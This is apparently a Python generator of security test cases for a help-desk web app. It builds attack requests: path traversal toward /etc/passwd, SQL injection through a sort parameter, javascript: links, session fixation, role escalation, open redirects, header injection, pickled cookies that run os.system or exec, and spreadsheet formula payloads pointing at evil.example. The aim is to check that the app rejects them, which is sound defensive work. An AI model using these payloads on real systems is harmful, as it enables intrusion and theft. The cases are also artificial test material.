"""Attacks on the help desk with what is harmless to answer, and benign twins, which must go on as they are."""

import base64
import hashlib
import json
import random
from urllib.parse import quote, urlencode

from phrases import CANARY, KEPT, answers, ask, attack, enter, get, logins
from twins import twins


def corpus():
    """The frozen cases."""
    rng = random.Random(20_260_101)
    made = [
        _files(rng, "frozen"),
        _orders(rng, "frozen"),
        *_links(rng, "frozen"),
        _session(rng, "frozen"),
        _comments(rng, "frozen"),
    ]
    made += [
        _role(rng, "frozen"),
        _targets(rng, "frozen"),
        _slow(rng, "frozen"),
        _cookie(rng, "frozen"),
        _formulas(rng, "frozen"),
    ]
    return [*made, *_cookie_deaths(), *twins()]


def generate(seed, count):
    """Up to `count` cases, one for each flaw, in phrasings drawn anew."""
    rng = random.Random(seed)
    made = [
        _files(rng, "drawn"),
        _orders(rng, "drawn"),
        *_links(rng, "drawn"),
        _session(rng, "drawn"),
        _comments(rng, "drawn"),
    ]
    made += [
        _role(rng, "drawn"),
        _targets(rng, "drawn"),
        _slow(rng, "drawn"),
        _cookie(rng, "drawn"),
        _formulas(rng, "drawn"),
    ]
    return made[: count + 1]


def _files(rng, name):
    up = ["....//", "..\\"]
    steps = [rng.choice(up) for _ in range(3)]
    secrets = {"absent": ["ending in 4242", CANARY, "root:"]}
    other = [f"{step}3{rng.choice(['/', chr(92)])}invoice.txt" for step in up]
    outside = [
        "".join(steps) + "canary.txt",
        "/etc/passwd",
        "....//....//helpdesk.db",
        "..\\..\\helpdesk.db",
        "x/../../3/invoice.txt",
    ]
    at = {wish: "/tickets/2/files/" + quote(wish, safe="") for wish in (*other, *outside)}
    own = [(ask("eve", "PUT", "/tickets/2/files/own.txt", "own"), {"status": 201})]
    reads = own + [(get("eve", path), answers(400, 403, 404, **secrets)) for path in at.values()]
    mark = f"mark {rng.randrange(10**6)}"
    banner = "/tickets/2/files/" + quote("".join(rng.choice(up) for _ in range(2)) + "banner.txt", safe="")
    written = [
        (ask("eve", "PUT", banner, mark), answers(400, 403, 404)),
        (get("eve", "/login"), answers(200, absent=[mark])),
    ]
    gone = [(ask("eve", "DELETE", at[path]), answers(400, 403, 404)) for path in other]
    there = [
        (
            get("bob", "/tickets/3/files/invoice.txt"),
            {"status": 200, "body": "Order 7781, card ending in 4242, 61.20 paid twice\n"},
        )
    ]
    return attack(
        "other-files", name, *logins("eve", "bob"), *reads, *written, *gone, *there, files={"canary.txt": CANARY}
    )


def _orders(rng, name):
    condition = rng.choice(["role = 'admin'", "password LIKE 'pbkdf2%'", "email LIKE '%desk%'", "id = 1", "name > 'a'"])
    truth = f"(CASE WHEN (SELECT count(*) FROM users WHERE id = 1 AND {condition}) = 1 THEN -1 ELSE 1 END)"
    first = rng.choice(["id", "priority", "-status", "subject", "-updated"])
    wishes = [
        f"{first},id*{truth}",
        f"{first},-id*{truth}",
        f"{first},id LIMIT {rng.randrange(1, 3)}",
        f"id LIMIT {rng.randrange(1, 3)}",
    ]
    wishes += [
        f"{first},id desc",
        f"{first},nosuch",
        f"{first},owner_id",
        f"{first},id--",
        f"{first},id;",
        "id,id/**/",
    ]
    paths = [path + urlencode({"sort": wish}) for wish in wishes for path in ("/api/tickets?", "/tickets?")]
    return attack("orders", name, *logins("eve"), *((get("eve", path), {"status": 400}) for path in paths))


def _links(rng, name):
    run = rng.choice(["location=name", "top.x=1", "document.title=1", "name"])
    event = rng.choice(["onfocus", "onmouseover", "onclick", "onpointerenter"])
    scheme = rng.choice(["JavaScript:", "JAVASCRIPT:", "jAvascript:", "javaScript:"])
    start = rng.choice(["https://a.example/", "mailto:x@y.example", "/tickets/1", "http://a.example"])
    broken = [f'{start}"{event}="{run}', f'{start}"autofocus="1"{event}="{run}']
    foreign = [
        f"{scheme}{run}",
        f"\x01javascript:{run}",
        f"\x1f{scheme}{run}",
        "data:text/html,run",
        "DATA:text/html,run",
        "vbscript:run",
    ]
    clean = answers(200, 400, absent=[f'"{event}="'])
    steps = [(ask("eve", "POST", "/preview", {"text": f"see [this]({address})."}), clean) for address in broken]
    for address in foreign:
        bad = [f'href="{address}', f"href='{address}", f"href={address}"]
        steps.append(
            (ask("eve", "POST", "/preview", {"text": f"see [this]({address})."}), answers(200, 400, absent=bad))
        )
    yield attack("script-links", name, *logins("eve"), *steps)
    text = f"[a]({broken[0]}) and [b]({foreign[0]}) and [c](https://c.example/)"
    shown = answers(200, absent=[f'"{event}="', f'href="{scheme}'])
    stored = [
        (ask("eve", "POST", "/tickets/2/comments", {"text": text}), answers(303, 400)),
        (get("amy", "/tickets/2"), shown),
    ]
    stored += [
        (ask("eve", "POST", "/tickets", {"subject": "x", "body": text}), answers(303, 400)),
        (get("amy", "/tickets/4"), answers(200, 404, absent=shown[0]["absent"])),
    ]
    yield attack("script-links", f"{name}-stored", *logins("eve", "amy"), *stored)


def _session(rng, name):
    chosen = "".join(rng.choices("abcdefghijkmnpqrstuvwxyz23456789", k=24))
    entry = {"method": "GET", "path": "/login", "keep": {"given": KEPT}}
    steps = [
        (enter("bob", key="victim", sid=chosen), {"status": 303, "headers": {"Location": "/tickets"}}),
        ({"method": "GET", "path": "/api/me", "headers": {"Cookie": f"sid={chosen}"}}, {"status": 401}),
        (get("victim", "/api/me"), {"status": 200}),
        (entry, {"status": 200}),
        (enter("amy", key="second", sid="<<given>>"), {"status": 303}),
        (get("given", "/api/me"), {"status": 401}),
        (get("given", "/api/tickets/1"), {"status": 401}),
        (get("second", "/api/tickets/1"), {"status": 200}),
        (enter("eve", "wrong", key="failed"), {"status": 303, "headers": {"Location": "/login"}}),
        (enter("root", key="third", sid="<<failed>>"), {"status": 303}),
        (get("failed", "/api/users"), {"status": 401}),
        (enter("eve", key="own"), {"status": 303}),
        (enter("root", key="fourth", sid="<<own>>"), {"status": 303}),
        (get("own", "/api/users"), answers(401, 403)),
        (get("fourth", "/api/users"), {"status": 200}),
    ]
    return attack("chosen-session", name, *steps)


def _comments(rng, name):
    no = answers(403, 404)
    tries = [
        ("eve", 1, 1),
        ("eve", 1, 2),
        ("eve", 2, 1),
        ("eve", 2, 2),
        ("eve", 3, 3),
        ("bob", 1, 1),
        ("bob", 3, 1),
        ("bob", 3, 3),
    ]
    tries += [("amy", 1, 2), ("amy", 2, 2), ("eve", 99, 1)]
    rng.shuffle(tries)
    steps = [(ask(who, "DELETE", f"/api/tickets/{at}/comments/{number}"), no) for who, at, number in tries]
    places = [(1, 1), (1, 2), (3, 3)]
    there = [
        (ask("root", "PUT", f"/api/tickets/{at}/comments/{number}", '{"text": "there"}'), {"status": 200})
        for at, number in places
    ]
    return attack("foreign-comments", name, *logins("eve", "bob", "amy", "root"), *steps, *there)


def _role(rng, name):
    role, salt, word = rng.choice(["admin", "agent"]), f"{rng.getrandbits(32):08x}", f"new-{rng.randrange(10**8):08d}"
    forged = f"pbkdf2${salt}${hashlib.pbkdf2_hmac('sha256', word.encode(), salt.encode(), 4_000).hex()}"
    wishes = [{"role": role}, {"display": "Eve", "role": "admin"}, {"role": "admin", "email": "e@x.example", "id": 1}]
    wishes += [{"name": "rooot"}, {"password": forged}, {"display": "E", "password": forged, "name": "bob2"}]
    taken = answers(200, 400, 403)
    steps = []
    for wish in rng.sample(wishes, len(wishes)):
        steps.append((ask("eve", "PATCH", "/api/me", json.dumps(wish)), taken))
        steps += [(get("eve", path), {"status": 403}) for path in ("/api/users", "/export.csv")]
    steps += [
        (get("eve", "/api/tickets/1"), {"status": 404}),
        (enter("eve", word, key="x"), {"status": 303, "headers": {"Location": "/login"}}),
    ]
    steps += [
        (enter("eve", key="y"), {"status": 303, "headers": {"Location": "/tickets"}}),
        (get("y", "/api/me"), {"status": 200}),
    ]
    return attack("own-role", name, *logins("eve"), *steps)


def _targets(rng, name):
    host = rng.choice(["evil.example", "evil.example/login", "user@evil.example", "1.2.3.4"])
    targets = [
        f"//{host}",
        f"///{host}",
        f"/\\{host}",
        f"/\t/{host}",
        f"\t//{host}",
        f"/\n/{host}",
        f"/\r\\{host}",
        f"https:{host}",
        f"\\\\{host}",
    ]
    smuggled = [f"/tickets{end}X-Injected: {rng.randrange(99)}" for end in ("\r\n", "\n", "\r")]
    places = [{"status": 303, "headers": {"Location": "/tickets"}}, {"status": 400}]
    steps = [(enter("eve", target=target, key=f"k{at}"), places) for at, target in enumerate(targets)]
    clean = [
        {"status": 303, "headers": {"Location": "/tickets", "X-Injected": None}},
        {"status": 400, "headers": {"X-Injected": None}},
    ]
    steps += [(enter("eve", target=target, key=f"s{at}"), clean) for at, target in enumerate(smuggled)]
    return attack("elsewhere", name, *steps)


def _slow(rng, name):
    base = 300 + rng.randrange(12)
    fill = {"frozen": " "}.get(name) or rng.choice([" ", "\t", " \t"])
    steps = logins("eve")
    for size in [base << doubled for doubled in range(6)] * 3:
        run = (fill * size)[:size]
        request = {**ask("eve", "POST", "/preview", {"text": f"a{run}b{fill} \nc"}), "n": size}
        steps += [(request, {"status": 200, "body": f"<p>a{run}b<br>c</p>\n"})]
    return attack("slow-text", name, *steps, growth=f"white-space-{name}")


def _pickled(function, argument):
    """What calls `module.function` with a text when it is unpickled."""
    module, _, name = function.rpartition(".")
    text = f"c{module}\n{name}\n(V{argument}\ntR."
    return base64.urlsafe_b64encode(text.encode()).decode()


def _cookie(rng, name):
    mark = f"mark {rng.randrange(10**6)}"
    write = f"__import__('pathlib').Path('data/banner.txt').write_text('{mark}')"
    calls = [("os.system", f"echo {mark} > data/banner.txt"), ("posix.system", f"echo {mark} > data/banner.txt")]
    calls += [
        ("builtins.exec", write),
        ("builtins.eval", write),
        ("subprocess.getoutput", f"echo {mark} > data/banner.txt"),
    ]
    rng.shuffle(calls)
    steps = logins("eve")
    for call in calls:
        steps.append((get("eve", "/tickets", cookies=f"view={_pickled(*call)}"), answers(200, 400, absent=[mark])))
        steps.append(({"path": "/login"}, answers(200, absent=[mark])))
    return attack("cookie-code", name, *steps)


def _cookie_deaths():
    deaths = [base64.urlsafe_b64encode(f"cos\n{name}\n(I7\ntR.".encode()).decode() for name in ("_exit", "abort")]
    deaths[1] = base64.urlsafe_b64encode(b"cos\nabort\n(tR.").decode()
    for at, death in enumerate(deaths):
        steps = [
            (get("eve", "/tickets", cookies=f"view={death}"), answers(200, 400)),
            (get("eve", "/tickets"), {"status": 200}),
        ]
        yield attack("cookie-code", f"death-{at}", *logins("eve"), *steps)


def _formulas(rng, name):
    number = rng.randrange(1, 99)
    subjects = [
        f"={number}+{number}",
        f'=HYPERLINK("https://evil.example/?{number}","see")',
        f"+{number}+cmd|'/C calc'!A0",
    ]
    subjects += [f"-{number}+cmd|'/C calc'!A0", f"@SUM({number}*cmd)", f'="{number}"', f"  ={number}"]
    made = [
        (ask("eve", "POST", "/tickets", {"subject": subject, "body": "x"}), answers(303, 400)) for subject in subjects
    ]
    line = json.dumps({"owner": "eve", "subject": f"@{number}", "body": "x"})
    made.append((ask("root", "POST", "/import", line), answers(201, 400)))
    bad = [f"\n{at},{quoted}{sign}" for at in range(4, 13) for quoted in ("", '"') for sign in "=+-@"]
    shown = answers(200, absent=bad)
    return attack(
        "formulas",
        name,
        *logins("eve", "amy", "root"),
        *made,
        (get("amy", "/export.csv"), shown),
        (get("amy", "/export.csv?status=open"), shown),
    )
